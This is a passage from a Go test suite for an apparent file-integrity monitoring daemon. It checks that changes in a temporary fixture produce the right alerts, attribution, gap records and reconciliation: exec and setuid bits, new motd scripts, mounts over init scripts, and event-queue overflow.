	if line := d.waitLog(t, "msg=reconciled why=start"); !strings.Contains(line, "baseline_recorded=true") {
		t.Errorf("the first start should record the baseline: %s", line)
	}
	d.stop(t)
	if len(d.seen) != 0 {
		t.Fatalf("the first run reported changes: %v", d.seen)
	}

	sh(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
	sh(t, "chmod", "u+s", fx.path("etc/init.d/beta"))
	sh(t, "install", filepath.Join(src, "evil"), fx.path("etc/update-motd.d/99-evil"))
	sh(t, "rm", fx.path("etc/cron.d/old-job"))
	sh(t, "sh", "-c", `printf 'x\n' >>"$1"`, "sh", fx.path("etc/profile.d/locale.sh"))
	want := map[string]struct{ rule, mode, prev string }{
		"/etc/cron.daily/backup":     {"exec-bit-set", "0755", "0644"},
		"/etc/init.d/beta":           {"setuid-set", "4755", "0755"},
		"/etc/update-motd.d/99-evil": {"executable-created", "0755", ""},
		"/etc/cron.d/old-job":        {"file-deleted", "0644", ""},
		"/etc/profile.d/locale.sh":   {"content-changed", "0644", "0644"},
	}

	d = startWatch(t, fx, out)
	if line := d.waitLog(t, "msg=reconciled why=start"); !strings.Contains(line, fmt.Sprintf("changes=%d", len(want))) {
		t.Errorf("start-up reconcile: %s, want changes=%d", line, len(want))
	}
	for p := range want {
		d.waitEvent(t, p, nil)
	}
	d.stop(t)
	for p, w := range want {
		got := eventsFor(d.seen, p)
		if len(got) != 1 {
			t.Errorf("%s: %d lines, want 1: %v", p, len(got), got)
			continue
		}
		e := got[0]
		if e.Rule.ID != w.rule || e.File.Mode != w.mode || e.previousMode() != w.prev || e.Event.Kind != "alert" {
			t.Errorf("%v: want rule %s, mode %s, previous %q", e, w.rule, w.mode, w.prev)
		}
		if e.Tripline.Source != "reconcile" || e.pid() != 0 || e.Tripline.Attribution != "none" ||
			!strings.Contains(e.Tripline.AttributionWhy, "reconciliation") {
			t.Errorf("%v: want source reconcile, no pid, attribution none explained by the reconciliation (why %q)", e, e.Tripline.AttributionWhy)
		}
	}
	if len(d.seen) != len(want) {
		t.Errorf("%d lines, want %d: %v", len(d.seen), len(want), d.seen)
	}

	gs := gaps(t, fx.db)
	if len(gs) != 2 {
		t.Fatalf("gaps %+v, want one daemon-start gap per start", gs)
	}
	for _, g := range gs {
		if g.reason != "daemon-start" || g.endNS == 0 || g.run == 0 || g.endNS < g.startNS {
			t.Errorf("gap %+v: want a daemon-start gap closed by a reconcile run", g)
		}
	}
}

type gap struct {
	reason              string
	startNS, endNS, run int64
}

func openDBReadOnly(t *testing.T, db string) *sql.DB {
	t.Helper()
	h, err := sql.Open("sqlite3", "file:"+db+"?mode=ro&_busy_timeout=5000")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.Close() })
	return h
}

func gaps(t *testing.T, db string) []gap {
	t.Helper()
	rows, err := openDBReadOnly(t, db).Query("SELECT reason, start_ns, end_ns, coalesce(reconcile_run, 0) FROM gaps ORDER BY id")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out []gap
	for rows.Next() {
		var g gap
		if err := rows.Scan(&g.reason, &g.startNS, &g.endNS, &g.run); err != nil {
			t.Fatal(err)
		}
		out = append(out, g)
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// recorded is what the database holds as the latest state of a path.
type recorded struct {
	mode  uint32
	inode uint64
}

// recordedUnder returns the latest recorded state of every present path directly in the logical
// directory dir: the drift row when there is one (absent when it says deleted), else the
// baseline row.
func recordedUnder(t *testing.T, db, dir string) map[string]recorded {
	t.Helper()
	h := openDBReadOnly(t, db)
	out := map[string]recorded{}
	read := func(q string, apply func(path string, r recorded, present bool)) {
		rows, err := h.Query(q, dir+"/%", dir+"/%/%")
		if err != nil {
			t.Fatal(err)
		}
		defer rows.Close()
		for rows.Next() {
			var p string
			var mode, inode, present int64
			if err := rows.Scan(&p, &mode, &inode, &present); err != nil {
				t.Fatal(err)
			}
			apply(p, recorded{uint32(mode), uint64(inode)}, present != 0)
		}
		if err := rows.Err(); err != nil {
			t.Fatal(err)
		}
	}
	read("SELECT path, mode, inode, 1 FROM baseline WHERE path LIKE ? AND path NOT LIKE ?", func(p string, r recorded, _ bool) { out[p] = r })
	read("SELECT path, mode, inode, present FROM state WHERE path LIKE ? AND path NOT LIKE ?", func(p string, r recorded, present bool) {
		if present {
			out[p] = r
		} else {
			delete(out, p)
		}
	})
	return out
}

// onDisk returns the mode and inode of every entry in a host directory, by logical path.
func onDisk(t *testing.T, hostDir, logicalDir string) map[string]recorded {
	t.Helper()
	ents, err := os.ReadDir(hostDir)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]recorded{}
	for _, e := range ents {
		var st unix.Stat_t
		if err := unix.Lstat(filepath.Join(hostDir, e.Name()), &st); err != nil {
			t.Fatal(err)
		}
		out[logicalDir+"/"+e.Name()] = recorded{st.Mode & 0o7777, st.Ino}
	}
	return out
}

// procState returns the state letter of a process (R, S, T...).
func procState(pid int) string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return ""
	}
	s := string(b)
	i := strings.LastIndexByte(s, ')') // comm may hold anything
	if i < 0 || i+2 >= len(s) {
		return ""
	}
	return s[i+2 : i+3]
}

// TestWatchOverflow overflows the kernel queue on purpose: the daemon is stopped (SIGSTOP) so it
// reads nothing while 20,000 files are created in a watched directory, a third of them made
// executable and some deleted — more events than the kernel's 16,384 — then resumed. It must
// log the overflow, record a gap, reconcile, and end with a recorded state equal to the
// filesystem's, every surviving file reported exactly once and no deleted one reported.
//
// Stopping the process rather than racing it is what makes the overflow certain: the daemon's
// reader drains the kernel queue into a 65,536-event channel, so a fast machine would otherwise
// keep up with the flood.
func TestWatchOverflow(t *testing.T) {
	testenv.RequireRoot(t)
	fx, _ := newWatchFixture(t)
	out := filepath.Join(t.TempDir(), "events.ecs")
	d := startWatch(t, fx, out)
	pid := d.cmd.Process.Pid
	if err := syscall.Kill(pid, syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	resumed := false
	resume := func() {
		if !resumed {
			resumed = true
			syscall.Kill(pid, syscall.SIGCONT)
		}
	}
	t.Cleanup(resume) // before the kill of startWatch's cleanup: cleanups run last first
	d.within(t, "the daemon stopped by SIGSTOP", func() bool { return procState(pid) == "T" })

	const n = 20000
	dir := fx.path("etc/cron.d")
	name := func(i int) string { return filepath.Join(dir, fmt.Sprintf("f%05d", i)) }
	for i := 0; i < n; i++ {
		if err := unix.Mknod(name(i), unix.S_IFREG|0o644, 0); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < n; i += 3 {
		if err := unix.Chmod(name(i), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for i := 1; i < n; i += 7 {
		if err := unix.Unlink(name(i)); err != nil {
			t.Fatal(err)
		}
	}
	resume()
	d.waitLogWithin(t, "kernel event queue overflowed", drainDeadline)
	d.waitLogWithin(t, "msg=reconciled why=overflow", drainDeadline)
	d.sync(t)
	d.stop(t)

	// The recorded state is the filesystem's.
	checkRecorded(t, fx, "etc/cron.d")

	// Every surviving new file was reported exactly once, some of them by the reconcile; no
	// deleted one was.
	byPath := map[string][]ecsEvent{}
	sources := map[string]int{}
	bad := 0
	for _, e := range d.seen {
		byPath[e.File.Path] = append(byPath[e.File.Path], e)
	}
	for i := 0; i < n; i++ {
		p := fmt.Sprintf("/etc/cron.d/f%05d", i)
		evs := byPath[p]
		if i%7 == 1 {
			if len(evs) != 0 {
				t.Errorf("%s was deleted before the daemon looked, yet reported: %v", p, evs)
			}
			continue
		}
		rule, mode := "file-created", "0644"
		if i%3 == 0 {
			rule, mode = "executable-created", "0755"
		}
		if len(evs) != 1 || evs[0].Rule.ID != rule || evs[0].File.Mode != mode {
			if bad++; bad <= 20 {
				t.Errorf("%s: %v, want one %s with mode %s", p, evs, rule, mode)
			}
			continue
		}
		sources[evs[0].Tripline.Source]++
	}
	t.Logf("new files reported: %v", sources)
	if sources["reconcile"] == 0 {
		t.Errorf("no file was reported by the reconcile, so nothing was shown to be lost and recovered: %v", sources)
	}

	var overflow bool
	for _, g := range gaps(t, fx.db) {
		if g.endNS == 0 || g.run == 0 {
			t.Errorf("gap %+v left open", g)
		}
		overflow = overflow || g.reason == "overflow"
	}
	if !overflow {
		t.Errorf("no overflow gap recorded: %+v", gaps(t, fx.db))
	}

	// The file-change feed's ring was full too: each of the calls above made a record of about
	// 0.9 KB (this test's working directory has 4 components), and 4 MB hold about 4,400 of them. The loss is counted, said, and a gap of its
	// own; what was received plus what was lost is every call made.
	ready, _ := lineWith(d.stderr.String(), "msg=ready")
	if !strings.Contains(ready, "syscall_feed=syscall-tracepoints") {
		if os.Getenv("TRIPLINE_REQUIRE_ROOT") != "" {
			t.Errorf("the file-change feed must run here (CI fails rather than skips): %s", ready)
		}
		return
	}
	calls := n + (n+2)/3 + (n-1+6)/7 // mknod, chmod, unlink
	stopped, ok := lineWith(d.stderr.String(), "the file-change feed stopped")
	if !ok {
		t.Fatalf("the daemon did not log the file-change feed's totals:\n%s", d.stderr)
	}
	received, lost := logInt(t, stopped, "received"), logInt(t, stopped, "lost")
	t.Logf("file-change feed: %d calls made; received %d, lost %d", calls, received, lost)
	if lost == 0 || received+lost < calls {
		t.Errorf("file-change feed: received %d + lost %d, want some lost and at least the %d calls made: %s", received, lost, calls, stopped)
	}
	if _, ok := lineWith(d.stderr.String(), "the file-change feed lost records"); !ok {
		t.Errorf("the feed's loss was not logged:\n%s", d.stderr)
	}
	feedGap := false
	for _, g := range gaps(t, fx.db) {
		feedGap = feedGap || g.reason == "feed-overflow"
	}
	if !feedGap {
		t.Errorf("no feed-overflow gap recorded: %+v", gaps(t, fx.db))
	}
}

// logInt is the integer value of key in a logfmt line.
func logInt(t *testing.T, line, key string) int {
	t.Helper()
	for _, f := range strings.Fields(line) {
		if v, ok := strings.CutPrefix(f, key+"="); ok {
			n, err := strconv.Atoi(v)
			if err != nil {
				t.Fatalf("%s=%q in %s: %v", key, v, line, err)
			}
			return n
		}
	}
	t.Fatalf("no %s= in %s", key, line)
	return 0
}

// TestWatchSIGHUP renames the output file away (as logrotate does) and sends SIGHUP: the next
// event lands in a new file at the original name, the earlier one stays in the renamed file.
func TestWatchSIGHUP(t *testing.T) {
	testenv.RequireRoot(t)
	fx, _ := newWatchFixture(t)
	out := filepath.Join(t.TempDir(), "events.ecs")
	d := startWatch(t, fx, out)
	pid := act(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
	d.waitEvent(t, "/etc/cron.daily/backup", func(e ecsEvent) bool { return e.pid() == pid })

	rotated := out + ".1"
	if err := os.Rename(out, rotated); err != nil {
		t.Fatal(err)
	}
	d.off = 0 // poll reads the file now at the output's name from its start
	if err := d.cmd.Process.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	// SIGHUP reopens the output, then reloads the policy, which logs and reconciles: once the
	// reconcile is logged, the new file is the one written to.
	d.waitLog(t, "msg=reconciled why=reload")
	if _, err := os.Stat(out); err != nil {
		t.Fatalf("no new output file after SIGHUP: %v", err)
	}
	pid = act(t, "chmod", "0755", fx.path("etc/init.d/alpha"))
	d.within(t, "the event in the reopened file", func() bool {
		return len(eventsFor(readECS(t, out), "/etc/init.d/alpha")) > 0
	})
	d.stop(t)

	fresh, old := readECS(t, out), readECS(t, rotated)
	if len(fresh) != 1 || fresh[0].File.Path != "/etc/init.d/alpha" || fresh[0].Rule.ID != "exec-bit-set" || fresh[0].pid() != pid {
		t.Errorf("reopened file: %v, want only the exec-bit-set of /etc/init.d/alpha by pid %d", fresh, pid)
	}
	if len(old) != 1 || old[0].File.Path != "/etc/cron.daily/backup" {
		t.Errorf("rotated file: %v, want only the line written before SIGHUP", old)
	}
	if st, err := os.Stat(out); err != nil || st.Mode().Perm() != 0o640 {
		t.Errorf("reopened file: %v, mode %v, want 0640", err, st.Mode())
	}
}

// TestWatchInotify runs the fallback backend: the same chmod +x is an exec-bit-set alert, with
// attribution "none" and no process.pid, and the ready line says pids=false. It writes to stdout.
func TestWatchInotify(t *testing.T) {
	fx, _ := newWatchFixture(t)
	d := startWatch(t, fx, "", "--backend", "inotify", "--attribution", "proc")
	ready := d.waitLog(t, "msg=ready")
	for _, want := range []string{"backend=inotify", "pids=false", "pidfds=false", "attribution=proc", `pid="unavailable: inotify reports no pid"`} {
		if !strings.Contains(ready, want) {
			t.Errorf("ready line lacks %s: %s", want, ready)
		}
	}
	act(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
	e := d.waitEvent(t, "/etc/cron.daily/backup", nil)
	if e.Rule.ID != "exec-bit-set" || e.Event.Kind != "alert" || e.File.Mode != "0755" || e.previousMode() != "0644" {
		t.Errorf("%v: want an exec-bit-set alert 0644 -> 0755", e)
	}
	if e.Tripline.Attribution != "none" || e.Process != nil || e.Tripline.Source != "event" ||
		!strings.Contains(e.Tripline.AttributionWhy, "inotify") {
		t.Errorf("%v: want attribution none (why %q naming inotify) and no process", e, e.Tripline.AttributionWhy)
	}
	d.stop(t)
}

// TestWatchInotifyHeuristic: inotify has no pid, but with the kernel feed a chmod whose
// arguments name the changed path is offered as the actor, marked heuristic; a change made by a
// process whose arguments do not name it (python3 with the path in a variable) stays none.
func TestWatchInotifyHeuristic(t *testing.T) {
	testenv.RequireRoot(t)
	fx, _ := newWatchFixture(t)
	d := startWatch(t, fx, "", "--backend", "inotify", "--attribution", "kernel", "--syscall-feed", "off")
	ready := d.waitLog(t, "msg=ready")
	if !strings.Contains(ready, "attribution=kernel") {
		t.Fatalf("ready line: %s", ready)
	}
	target := fx.path("etc/cron.daily/backup")
	act(t, "chmod", "+x", target)
	e := d.waitEvent(t, "/etc/cron.daily/backup", nil)
	if e.Tripline.Attribution != "heuristic" || e.Process == nil || e.Process.Executable == "" ||
		!slices.Equal(e.Process.Args, []string{"chmod", "+x", target}) || !strings.Contains(e.Tripline.AttributionWhy, "inotify") {
		t.Errorf("%v: want a heuristic chmod +x %s, why naming inotify (%q)", e, target, e.Tripline.AttributionWhy)
	}
	os.Setenv("TRIPLINE_T", fx.path("etc/init.d/alpha"))
	defer os.Unsetenv("TRIPLINE_T")
	act(t, "python3", "-c", "import os; os.chmod(os.environ['TRIPLINE_T'], 0o755)")
	e = d.waitEvent(t, "/etc/init.d/alpha", nil)
	if e.Tripline.Attribution != "none" || e.Process != nil {
		t.Errorf("%v: want none: no process's arguments name the path", e)
	}
	d.stop(t)
}

// TestWatchSIGTERMWhileBusy sends SIGTERM while the daemon works through a burst of changes: it
// must finish what it read, commit and exit 0 (the watch command's contract: "SIGTERM and SIGINT
// drain, commit and exit 0"), and a restart must find the recorded state and the filesystem in
// agreement.
func TestWatchSIGTERMWhileBusy(t *testing.T) {
	testenv.RequireRoot(t)
	fx, _ := newWatchFixture(t)
	out := filepath.Join(t.TempDir(), "events.ecs")
	d := startWatch(t, fx, out)
	d.sync(t)
	// Judging a change takes longer than making one: when the burst is made, the daemon is in
	// the middle of it.
	burst(t, fx.path("etc/cron.d"), "busy", 5000)
	if err := d.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case <-d.done:
	case <-time.After(watchDeadline):
		t.Fatalf("still running %v after SIGTERM\nstderr:\n%s", watchDeadline, d.stderr)
	}
	if d.err != nil {
		t.Errorf("SIGTERM while busy: %v, want exit 0\nstderr:\n%s", d.err, d.stderr)
	}

	d = startWatch(t, fx, out)
	d.stop(t)
	checkRecorded(t, fx, "etc/cron.d")
}

// burst creates n empty files named prefix-NNNNN in dir as fast as it can.
func burst(t *testing.T, dir, prefix string, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		if err := unix.Mknod(filepath.Join(dir, fmt.Sprintf("%s-%05d", prefix, i)), unix.S_IFREG|0o644, 0); err != nil {
			t.Fatal(err)
		}
	}
}

// checkRecorded compares the latest recorded state of every entry in the fixture directory rel
// with the filesystem.
func checkRecorded(t *testing.T, fx *fixture, rel string) {
	t.Helper()
	logical := "/" + rel
	want := onDisk(t, fx.path(rel), logical)
	got := recordedUnder(t, fx.db, logical)
	if len(got) != len(want) {
		t.Errorf("%d paths recorded under %s, %d on disk", len(got), logical, len(want))
	}
	bad := 0
	for p, w := range want {
		if g, ok := got[p]; !ok || g != w {
			if bad++; bad <= 10 {
				t.Errorf("%s: recorded %+v (present %v), on disk %+v", p, g, ok, w)
			}
		}
	}
	for p := range got {
		if _, ok := want[p]; !ok {
			if bad++; bad <= 10 {
				t.Errorf("%s: recorded as present, not on disk", p)
			}
		}
	}
}

// TestWatchBurstFewDescriptors runs the daemon with 256 file descriptors (LimitNOFILE=256 in
// a unit file) and makes a burst of 10,000 changes, fewer than the kernel queue holds: every
// change must be recorded, or the loss recorded as a gap and reconciled; once the daemon has
// caught up, the recorded state must be the filesystem's.
func TestWatchBurstFewDescriptors(t *testing.T) {
	testenv.RequireRoot(t)
	fx, _ := newWatchFixture(t)
	out := filepath.Join(t.TempDir(), "events.ecs")
	d := startWatchWith(t, fx, out, []string{"sh", "-c", `ulimit -n 256 && exec "$0" "$@"`})
	burst(t, fx.path("etc/cron.d"), "burst", 10000)
	d.sync(t)
	d.stop(t)
	if line, ok := lineWith(d.stderr.String(), "too many open files"); ok {
		t.Errorf("the daemon ran out of file descriptors: %s", line)
	}
	checkRecorded(t, fx, "etc/cron.d")
}

// TestWatchPreviousIsLastObservation makes two changes in a row: the second one's previous state
// is the first change (0755), not the baseline (0644), and nobody approved it, so
// tripline.previous must not say it was approved.
func TestWatchPreviousIsLastObservation(t *testing.T) {
	testenv.RequireRoot(t)
	fx, _ := newWatchFixture(t)
	d := startWatch(t, fx, filepath.Join(t.TempDir(), "events.ecs"))
	p := fx.path("etc/cron.daily/backup")
	act(t, "chmod", "0755", p)
	first := d.waitEvent(t, "/etc/cron.daily/backup", nil)
	act(t, "chmod", "4755", p)
	second := d.waitEvent(t, "/etc/cron.daily/backup", func(e ecsEvent) bool { return e.Rule.ID == "setuid-set" })
	d.stop(t)
	if first.Rule.ID != "exec-bit-set" || first.previousMode() != "0644" {
		t.Errorf("first change %v: want exec-bit-set from the baseline's 0644", first)
	}
	if second.previousMode() != "0755" {
		t.Errorf("second change %v: previous mode should be the first change's 0755", second)
	}
	if prev := second.Tripline.Previous; prev != nil && prev.Approved != nil && *prev.Approved {
		t.Errorf("second change %v: tripline.previous.approved is true, but 0755 was never approved (the baseline is 0644)", second)
	}
}

// TestWatchCoverage runs one daemon with /etc/cron.daily forced onto inotify and
// /etc/cron.hourly onto polling, as if fanotify (and, for cron.hourly, inotify) could not watch
// them, the rest on fanotify: chmod +x alerts in each, with the pid where the backend has one;
// the ready line counts the directories by coverage and names the polled one, which is also a
// warning and an open gap. On $TMPDIR's filesystem, tmpfs, ext4 and overlayfs.
func TestWatchCoverage(t *testing.T) {
	testenv.RequireRoot(t)
	t.Run("tmpdir", runCoverage)
	for _, fs := range []string{"tmpfs", "ext4", "overlayfs"} {
		t.Run(fs, func(t *testing.T) { inPrivateFS(t, fs, runCoverage) })
	}
}

func runCoverage(t *testing.T) {
	fx, _ := newWatchFixture(t)
	fx.write(t, "etc/cron.hourly/job", "#!/bin/sh\nid\n", 0o644)
	out := filepath.Join(t.TempDir(), "events.ecs")
	d := startWatch(t, fx, out, "--coverage", "/etc/cron.daily=inotify", "--coverage", "/etc/cron.hourly=poll")
	ready := d.waitLog(t, "msg=ready")
	t.Logf("%s", ready)
	for _, want := range []string{"backend=fanotify", " inotify_dirs=1 ", " polled_dirs=1 ", " polled=/etc/cron.hourly "} {
		if !strings.Contains(ready, want) {
			t.Errorf("ready line lacks %q: %s", want, ready)
		}
	}
	if m := regexp.MustCompile(` fanotify_dirs=(\d+) `).FindStringSubmatch(ready); m == nil || m[1] == "0" {
		t.Errorf("ready line: no fanotify_dirs > 0: %s", ready)
	}
	for _, w := range []struct{ msg, path string }{{"directory not watched live", "/etc/cron.hourly"}, {"directory watched by inotify", "/etc/cron.daily"}} {
		line := d.waitLog(t, w.msg)
		t.Logf("%s", line)
		if !strings.Contains(line, "path="+w.path) || !strings.Contains(line, "level=WARN") {
			t.Errorf("warning for %s: %s", w.path, line)
		}
	}

	for _, c := range []struct {
		rel, backend string
	}{
		{"etc/init.d/alpha", "fanotify"},
		{"etc/cron.daily/backup", "inotify"},
		{"etc/cron.hourly/job", "poll"},
	} {
		target := fx.path(c.rel)
		pid := act(t, "chmod", "+x", target)
		e := d.waitEvent(t, "/"+c.rel, nil)
		t.Logf("%s (%s): %v why=%q", c.rel, c.backend, e, e.Tripline.AttributionWhy)
		if e.Rule.ID != "exec-bit-set" || e.Event.Kind != "alert" || e.Tripline.Source != "event" {
			t.Errorf("%s (%s): %v, want an exec-bit-set alert from an event", c.rel, c.backend, e)
		}
		switch c.backend {
		case "fanotify":
			if !kernelNamed(e.Tripline.Attribution) || e.pid() != pid {
				t.Errorf("%s on fanotify: %v, want attribution kernel or syscall, pid %d", c.rel, e, pid)
			}
		default:
			// No pid from the backend: the exec cache may still offer the chmod whose arguments
			// name the path (heuristic); otherwise nothing is claimed.
			switch e.Tripline.Attribution {
			case "syscall":
				// The file-change feed names the maker whatever the backend.
				if e.pid() != pid {
					t.Errorf("%s on %s: syscall %v, want the chmod (pid %d)", c.rel, c.backend, e, pid)
				}
			case "heuristic":
				if e.pid() != pid || !slices.Equal(e.Process.Args, []string{"chmod", "+x", target}) {
					t.Errorf("%s on %s: heuristic %v, want the chmod (pid %d)", c.rel, c.backend, e, pid)
				}
			case "none":
				if e.Process != nil || !strings.Contains(e.Tripline.AttributionWhy, c.backend) {
					t.Errorf("%s on %s: %v why %q: want no process and a why naming %s", c.rel, c.backend, e, e.Tripline.AttributionWhy, c.backend)
				}
			default:
				t.Errorf("%s on %s: attribution %q, want heuristic or none", c.rel, c.backend, e.Tripline.Attribution)
			}
		}
	}
	d.stop(t)

	// The polled directory has a gap row naming it, left open: nothing watches it live.
	rows, err := openDBReadOnly(t, fx.db).Query("SELECT detail, end_ns FROM gaps WHERE reason = 'polled'")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var open int
	for rows.Next() {
		var detail string
		var end int64
		if err := rows.Scan(&detail, &end); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(detail, "/etc/cron.hourly") {
			t.Errorf("polled gap %q does not name /etc/cron.hourly", detail)
		}
		if end == 0 {
			open++
		}
	}
	if open == 0 {
		t.Errorf("no open gap row for the polled directory")
	}
}

// mountinfoTop returns "fstype source" of the mount visible at point in this process's mount
// namespace, or "".
func mountinfoTop(t *testing.T, point string) string {
	t.Helper()
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	var out string
	for _, line := range strings.Split(string(b), "\n") {
		f := strings.Fields(line)
		if len(f) < 10 || f[4] != point {
			continue
		}
		for i := 6; i+2 < len(f); i++ {
			if f[i] == "-" {
				out = f[i+1] + " " + f[i+2]
				break
			}
		}
	}
	return out
}

// TestWatchMountOver: a bind mount over an armed init script changes what runs at boot without
// a file event. The daemon must alert mount-over (high) for it, naming the mount process, then
// reconcile what is visible there; a tmpfs mounted over a location's directory is a mount-over
// too, and a change in what it shows is an event with its pid (the daemon marks what is visible
// after the mount); the unmount is a mount-over again. In a private mount namespace.
func TestWatchMountOver(t *testing.T) {
	testenv.RequireRoot(t)
	inPrivateTmpfs(t, func(t *testing.T) {
		fx, src := newWatchFixture(t)
		out := filepath.Join(t.TempDir(), "events.ecs")
		d := startWatch(t, fx, out)
		// fanotify reports mounts with the pid that made them since 6.15; before, the exec
		// cache can still offer the mount whose arguments name the mount point.
		ready := d.waitLog(t, "msg=ready")
		byPID := strings.Contains(ready, "mounts=fanotify+mountinfo")
		if !byPID && !strings.Contains(ready, "mounts=mountinfo") {
			t.Errorf("ready line: %s, want mounts=fanotify+mountinfo or mounts=mountinfo", ready)
		}
		wantAttribution := "heuristic"
		if byPID {
			wantAttribution = "kernel"
		}
		target, other := fx.path("etc/init.d/beta"), filepath.Join(src, "exe")
		began := time.Now()
		pid := act(t, "mount", "--bind", other, target)
		t.Cleanup(func() { unix.Unmount(target, unix.MNT_DETACH) })
		isMount := func(e ecsEvent) bool { return e.Rule.ID == "mount-over" }
		e := d.waitEvent(t, "/etc/init.d/beta", isMount)
		// Logged, not asserted (the issue asks for 2 s; a loaded machine may take longer).
		t.Logf("bind mount: %v why=%q, seen %v after the mount began", e, e.Tripline.AttributionWhy, time.Since(began).Round(time.Millisecond))
		if e.Event.Kind != "alert" || e.Tripline.Severity != "high" {
			t.Errorf("%v: want a high alert", e)
		}
		if e.Tripline.Attribution != wantAttribution || e.pid() != pid || e.Process == nil || !slices.Equal(e.Process.Args, []string{"mount", "--bind", other, target}) {
			t.Errorf("%v: want the mount (pid %d, args mount --bind %s %s), attribution %s", e, pid, other, target, wantAttribution)
		}
		// The finding is in the history too, with the mount as its actor and the chain hash the
		// event carried.
		var hist struct {
			Rows []struct {
				Rule  string `json:"rule"`
				Hash  string `json:"hash"`
				Actor *struct {
					PID int `json:"pid"`
				} `json:"actor"`
			} `json:"rows"`
		}
		if r := tl(t, fx, "history", "/etc/init.d/beta", "--format", "json"); r.code != 0 {
			t.Errorf("history: %d %s", r.code, r.stderr)
		} else if err := json.Unmarshal([]byte(r.stdout), &hist); err != nil {
			t.Errorf("history json: %v\n%s", err, r.stdout)
		} else {
			found := 0
			for _, row := range hist.Rows {
				if row.Rule == "mount-over" && row.Actor != nil && row.Actor.PID == e.pid() && row.Hash == e.Tripline.History.Hash && row.Hash != "" {
					found++
				}
			}
			if found != 1 {
				t.Errorf("%d history rows of beta are the mount-over finding with the event's actor and hash, want 1: %s", found, r.stdout)
			}
		}
		// What the mount shows is reconciled: other's content replaces beta's.
		d.waitEvent(t, "/etc/init.d/beta", func(e ecsEvent) bool {
			return e.Rule.ID == "content-changed" && e.Tripline.Source == "reconcile"
		})
		d.waitLog(t, "a file mounted over a location is not watched live")
		// A change to the mounted file, made through its own path outside the root, is seen
		// where it is visible (no mark sees it: its parent is elsewhere; it is rescanned).
		act(t, "chmod", "u+s", other)
		e = d.waitEvent(t, "/etc/init.d/beta", func(e ecsEvent) bool { return e.Rule.ID == "setuid-set" })
		t.Logf("setuid on the mounted file: %v why=%q", e, e.Tripline.AttributionWhy)
		if e.Tripline.Source != "event" {
			t.Errorf("%v: want an event from the rescan", e)
		}

		dir := fx.path("etc/cron.daily")
		act(t, "mount", "-t", "tmpfs", "tripline-test", dir)
		t.Cleanup(func() { unix.Unmount(dir, unix.MNT_DETACH) })
		d.waitEvent(t, "/etc/cron.daily", isMount)
		// The reconcile that follows finds the files the tmpfs hides; it reports them once its
		// scan is done, so what is written from here on is an event.
		d.waitEvent(t, "/etc/cron.daily/backup", func(e ecsEvent) bool {
			return e.Rule.ID == "file-deleted" && e.Tripline.Source == "reconcile"
		})
		if err := os.WriteFile(filepath.Join(dir, "new-job"), []byte("#!/bin/sh\nid\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		// Seen first as written, so that the chmod is a change of its own (the stat of a
		// batch sees the newest state, whoever's event it handles).
		d.waitEvent(t, "/etc/cron.daily/new-job", func(e ecsEvent) bool { return e.Rule.ID == "file-created" })
		pid = act(t, "chmod", "+x", filepath.Join(dir, "new-job"))
		e = d.waitEvent(t, "/etc/cron.daily/new-job", func(e ecsEvent) bool { return e.Rule.ID == "exec-bit-set" })
		if e.pid() != pid || e.Tripline.Source != "event" {
			t.Errorf("%v: want the chmod's event (pid %d) in the mounted tmpfs", e, pid)
		}

		// A mount moved in (mount --move) from outside the root.
		staged := filepath.Join(src, "staged")
		if err := os.Mkdir(staged, 0o755); err != nil {
			t.Fatal(err)
		}
		act(t, "mount", "-t", "tmpfs", "tripline-test", staged)
		t.Cleanup(func() { unix.Unmount(staged, unix.MNT_DETACH) })
		hourly := fx.path("etc/cron.hourly")
		pid = act(t, "mount", "--move", staged, hourly)
		t.Cleanup(func() { unix.Unmount(hourly, unix.MNT_DETACH) })
		e = d.waitEvent(t, "/etc/cron.hourly", isMount)
		t.Logf("move: %v why=%q", e, e.Tripline.AttributionWhy)
		if e.pid() != pid || e.Tripline.Attribution != wantAttribution {
			t.Errorf("%v: want the mount --move (pid %d), attribution %s", e, pid, wantAttribution)
		}
		if line := d.waitLog(t, "path=/etc/cron.hourly rule=mount-over"); !strings.Contains(line, "moved from") {
			t.Errorf("the move's reason does not say it moved: %s", line)
		}

		pid = act(t, "umount", target)
		var un ecsEvent
		d.within(t, "a second mount-over for the unmount", func() bool {
			n := 0
			for _, e := range eventsFor(d.poll(t), "/etc/init.d/beta") {
				if isMount(e) {
					if n++; n == 2 {
						un = e
					}
				}
			}
			return n >= 2
		})
		t.Logf("unmount: %v why=%q", un, un.Tripline.AttributionWhy)
		if un.pid() != pid || un.Tripline.Attribution != wantAttribution {
			t.Errorf("%v: want the umount (pid %d), attribution %s", un, pid, wantAttribution)
		}
		d.stop(t)
	})
}

// TestWatchTracefsLeftByKill: a daemon that mounted tracefs for its kernel feed and was killed
// with SIGKILL leaves the mount; the next daemon recognises it as tripline's, reuses it, and
// unmounts it when it stops. In a private mount namespace, with the namespace's tracefs and
// debugfs unmounted first so that the first daemon has to mount one.
func TestWatchTracefsLeftByKill(t *testing.T) {
	testenv.RequireRoot(t)
	inPrivateTmpfs(t, func(t *testing.T) {
		for _, p := range []string{"/sys/kernel/debug/tracing", "/sys/kernel/debug", "/sys/kernel/tracing"} {
			for unix.Unmount(p, unix.MNT_DETACH) == nil {
			}
		}
		if top := mountinfoTop(t, "/sys/kernel/tracing"); top != "" {
			t.Fatalf("%s still mounted at /sys/kernel/tracing in the private namespace", top)
		}
		fx, _ := newWatchFixture(t)
		out := filepath.Join(t.TempDir(), "events.ecs")
